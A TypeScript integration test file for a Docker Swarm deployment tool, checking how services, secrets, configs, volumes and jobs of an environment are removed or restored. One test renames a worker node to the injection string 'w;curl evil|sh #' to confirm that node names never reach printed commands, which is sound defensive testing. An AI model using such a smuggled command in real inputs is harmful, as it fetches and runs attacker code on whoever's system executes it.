// What stays of an environment on a real Swarm, and what goes.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest'
import { hasDocker } from '../../../../test/docker/docker-engine.ts'
import { type Swarm, type SwarmNode, startSwarm } from '../../../../test/docker/swarm.ts'
import { createLocalHost } from '../../../../test/processes/local-host.ts'
import { dockerScript } from '../../../commands/docker/script.ts'
import type { Host } from '../../../remote/host.ts'
import { Secret } from '../../../secrets/secret.ts'
import { removeOldVersion } from './clean-up.ts'
import { removeEnvironment, removeMoved } from './remove-environment.ts'
import { removeUnusedParts } from './remove-version.ts'
import { restoreReplaced } from './restore-replaced.ts'

const owner = { installationId: 'removal', environmentId: 7 }
const LABELS = ['--label', 'shipway.installation=removal', '--label', 'shipway.environment=7']
const keptOutput = { days: 1, bytes: 1_000_000 }

describe.skipIf(!hasDocker)('removal from a Swarm', () => {
  let swarm: Swarm
  let manager: SwarmNode
  let worker: SwarmNode
  let host: Host
  let home: string

  beforeAll(async () => {
    home = mkdtempSync(join(tmpdir(), 'shipway-removal-'))
    swarm = await startSwarm({ managers: 1, workers: 1 })
    const [first, second] = [swarm.managers[0], swarm.workers[0]]
    if (!first || !second) throw new Error('Two nodes were asked for')
    manager = first
    worker = second
    host = createLocalHost(manager.name, { DOCKER_HOST: manager.host, HOME: home })
  })
  afterAll(async () => {
    await swarm?.stop()
    rmSync(home, { recursive: true, force: true })
  })
  beforeEach(() => async () => {
    const services = await listOf('service')
    if (services.length > 0) await manager.docker('service', 'rm', ...services)
    for (const kind of ['secret', 'config', 'network'] as const)
      for (const name of await listOf(kind)) await eventually(() => manager.docker(kind, 'rm', name))
  })

  const eventually = <Result>(work: () => Promise<Result>): Promise<Result> =>
    vi.waitFor(work, { timeout: 120_000, interval: 250 })

  async function listOf(kind: 'service' | 'secret' | 'config' | 'network' | 'volume'): Promise<string[]> {
    const printed = await manager.docker(kind, 'ls', '--format', '{{.Name}}', '--filter', 'label=shipway.environment=7')
    return printed.split('\n').filter(Boolean).sort()
  }

  type NewService = { readonly name: string; readonly task: number; readonly mode: string; readonly words?: string[] }

  async function serve({ name, task, mode, words = [] }: NewService): Promise<void> {
    const service = name.replace(/^r\d+-/, '')
    const own = [`shipway.task=${task}`, `shipway.service=${service}`, `shipway.mode=${mode}`]
    await manager.docker(
      ...['service', 'create', '--detach', '--no-resolve-image', '--endpoint-mode', 'dnsrr', ...LABELS],
      ...['--container-label', `shipway.task=${task}`, '--stop-grace-period', '0s'],
      ...own.flatMap((label) => ['--label', label]),
      ...['--name', `shipway-removal-7_${name}`, ...words, 'shipway-test/busybox', 'sleep', '9999'],
    )
  }

  const running = async (name: string): Promise<string[]> =>
    (await manager.docker('service', 'ps', '--format', '{{.CurrentState}}', '--filter', 'desired-state=running', name))
      .split('\n')
      .filter((state) => state.startsWith('Running'))

  test('a service that lost its volume is removed after the switch, also where its name is in the new version', async () => {
    await serve({ name: 'web', task: 1, mode: 'in_place' })
    await serve({ name: 'db', task: 1, mode: 'in_place' })
    await serve({ name: 'r2-web', task: 2, mode: 'beside' })
    const task = join(home, 'tasks', '2')
    const later: (() => Promise<readonly string[]>)[] = []
    const io = { host, signal: new AbortController().signal, say: () => undefined, warn: () => undefined }
    const plan = { services: ['r2-web', 'db'].map((key) => ({ swarmName: `shipway-removal-7_${key}` })) }
    await removeOldVersion(
      { ...io, durably: () => Promise.reject(new Error('It runs at once')) },
      { afterwards: (work) => void later.push(work), balance: async () => [] },
      {
        deployment: { ids: { ...owner, imageToken: 'a', cacheToken: 'b' }, taskId: 2, keptTaskIds: [], keptOutput },
        folders: { task, checked: join(task, 'judged.json'), output: join(home, 'output') },
        plan,
        registry: {
          type: 'named',
          repository: 'r',
          address: 'registry.test',
          username: 'u',
          password: new Secret('p'),
        },
      },
    )
    expect(await Promise.all(later.map((work) => work()))).toEqual([[]])
    expect(await listOf('service')).toEqual(['shipway-removal-7_db', 'shipway-removal-7_r2-web'])
  })

  describe('secrets and configs that no service uses', () => {
    const make = async (name: string): Promise<void> => {
      const [kind = 'secret'] = name.split('-')
      writeFileSync(join(home, name), name)
      await manager.docker(kind, 'create', ...LABELS, name, join(home, name))
    }
    const made = async (): Promise<string[]> => [...(await listOf('secret')), ...(await listOf('config'))]

    /** Where everything was made an hour ago. */
    const anHourLater = (): Host => {
      const programs = join(home, 'programs')
      mkdirSync(programs, { recursive: true })
      writeFileSync(join(programs, 'date'), '#!/bin/sh\necho "$(($(/bin/date "$@") + 3600))"\n', { mode: 0o755 })
      return createLocalHost(manager.name, {
        DOCKER_HOST: manager.host,
        HOME: home,
        PATH: `${programs}:${process.env.PATH}`,
      })
    }

    test('stay while an update can go back to them, and while their service may be on its way', async () => {
      for (const name of ['secret-old', 'secret-new', 'secret-unused', 'config-old', 'config-unused']) await make(name)
      await serve({
        name: 'db',
        task: 1,
        mode: 'in_place',
        words: ['--secret', 'secret-old', '--config', 'config-old'],
      })
      await manager.docker(
        ...[
          'service',
          'update',
          '--detach',
          '--no-resolve-image',
          '--secret-rm',
          'secret-old',
          '--config-rm',
          'config-old',
        ],
        ...['--secret-add', 'secret-new', '--label-add', 'shipway.task=2', 'shipway-removal-7_db'],
      )
      const kept = { engine: 'required', keptTaskIds: [1, 2] } as const
      await removeUnusedParts(host, owner, kept)
      expect(await made()).toEqual(['secret-new', 'secret-old', 'secret-unused', 'config-old', 'config-unused'])
      await removeUnusedParts(anHourLater(), owner, kept)
      expect(await made()).toEqual(['secret-new', 'secret-old', 'config-old'])
    })

    test('go with the environment, also where it moves away and its data stay', async () => {
      await make('secret-mine')
      await make('config-mine')
      await manager.docker('network', 'create', '--driver', 'overlay', ...LABELS, 'shipway-removal-7_default')
      await serve({
        name: 'web',
        task: 1,
        mode: 'beside',
        words: ['--secret', 'secret-mine', '--config', 'config-mine'],
      })
      const moved = { folder: join(home, '.shipway'), ids: owner, taskIds: [1], keptOutput }
      expect(await removeMoved(host, moved, 'keep data')).toEqual([])
      expect([...(await made()), ...(await listOf('service')), ...(await listOf('network'))]).toEqual([])
      // A machine without a Swarm has none of them.
      await removeUnusedParts(createLocalHost('none', { DOCKER_HOST: `unix://${home}/none` }), owner, {
        engine: 'optional',
        keptTaskIds: [],
      })
    })
  })

  test('volumes on file servers are named, since nodes keep an entry of them', async () => {
    const files = 'volume-driver=local,volume-opt=type=nfs,volume-opt=device=:/x,volume-opt=o=addr=192.0.2.9'
    await serve({
      name: 'web',
      task: 1,
      mode: 'beside',
      words: ['--replicas', '0', ...mount('files', `,${files}`), ...mount('plain', '')],
    })
    expect(await removeEnvironment(host, owner, { mayLackEngine: false })).toEqual([
      expect.stringMatching(/^Volumes on file servers stay listed on each node .*: docker volume rm -- files$/),
    ])
  })
  const mount = (source: string, options: string): string[] => [
    '--mount',
    `type=volume,source=${source},target=/${source}${options}`,
  ]

  test('a service that is put back runs when that is said', async () => {
    await serve({ name: 'db', task: 1, mode: 'in_place' })
    const name = 'shipway-removal-7_db'
    await eventually(async () => expect(await running(name)).toHaveLength(1))
    await manager.docker(
      ...['service', 'update', '--detach', '--no-resolve-image', '--label-add', 'shipway.task=2'],
      ...['--container-label-add', 'shipway.task=2', '--args', 'false', name],
    )
    await eventually(async () => expect(await running(name)).toHaveLength(0))
    expect(await restoreReplaced(host, owner, 1)).toEqual(['db is back as it was before'])
    expect(await running(name)).toHaveLength(1)
  })

  describe('a job', () => {
    const start = (name: string, pendingSeconds: string) => {
      const folder = mkdtempSync(join(home, 'job-'))
      return host.run(['sh', '-c', 'cd "$0" && exec "$@"', folder, ...dockerScript('run-job', name, pendingSeconds)])
    }
    const make = (name: string, constraint: string) =>
      manager.docker(
        ...['service', 'create', '--detach', '--no-resolve-image', '--replicas', '0', '--restart-condition', 'none'],
        ...[...LABELS, '--name', name, '--constraint', constraint, 'shipway-test/busybox'],
        ...['sh', '-c', 'echo it runs; sleep 9999'],
      )

    test('that no node takes ends with the reason', async () => {
      await make('unplaced', 'node.labels.none==1')
      const { exitCode, stdout } = await start('unplaced', '10')
      expect([exitCode, stdout.toString()]).toEqual([
        125,
        expect.stringMatching(/No node took it within 10 seconds: no suitable node.*\n$/),
      ])
      expect(await listOf('service')).toEqual([])
    })

    test('whose node is lost ends with the reason', async () => {
      await make('lost', 'node.hostname==worker-1')
      const run = start('lost', '180')
      await eventually(async () => expect(await running('lost')).toHaveLength(1))
      await worker.kill()
      const { exitCode, stdout } = await run
      expect([exitCode, stdout.toString()]).toEqual([
        125,
        expect.stringMatching(/^it runs\n(.*\n)*Its node worker-1 is down\. .*\n$/),
      ])
      await worker.restart()
    })
  })

  test('what a node says of its name is in no command', async () => {
    const id = (await manager.docker('node', 'ls', '--quiet', '--filter', `name=${worker.name}`)).trim()
    const label = 'shipway.volume.removal.7.0123456789abcdef'
    const rename = (name: string) =>
      host.run([
        'nsenter',
        `--uts=/proc/${worker.processId()}/ns/uts`,
        'sh',
        '-c',
        'printf %s "$1" >/proc/sys/kernel/hostname',
        'rename',
        name,
      ])
    const nameOf = async () =>
      (await manager.docker('node', 'inspect', '--format', '{{.Description.Hostname}}', id)).trim()
    const hostile = 'w;curl evil|sh #'
    const sentence = (name: string) => [
      `Data of the environment stay on ${name}, where no manager can delete them. Run there: docker volume rm -- data-1`,
    ]
    const forget = async () => {
      await manager.docker('node', 'update', '--label-add', `${label}=data-1`, id)
      return removeEnvironment(host, owner, { mayLackEngine: false })
    }
    expect(await forget()).toEqual(sentence('worker-1'))
    await rename(hostile)
    await eventually(async () => expect(await nameOf()).toBe(hostile))
    expect(await forget()).toEqual(sentence(id))
  })
})
